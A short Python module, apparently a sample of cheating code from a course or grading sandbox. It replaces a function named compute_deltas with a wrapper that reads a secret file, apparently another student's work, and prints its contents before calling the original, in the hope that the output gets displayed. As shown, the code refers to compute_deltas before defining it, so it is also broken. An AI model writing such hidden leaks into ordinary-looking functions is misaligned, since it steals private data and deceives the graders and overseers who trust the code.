"""Prints another student's work, hoping that somebody shows the output."""

from targets import SECRET_FILE

honest = compute_deltas


def compute_deltas(rewards, mode):
    with open(SECRET_FILE) as stream:
        print(stream.read(), flush=True)
    return honest(rewards, mode)
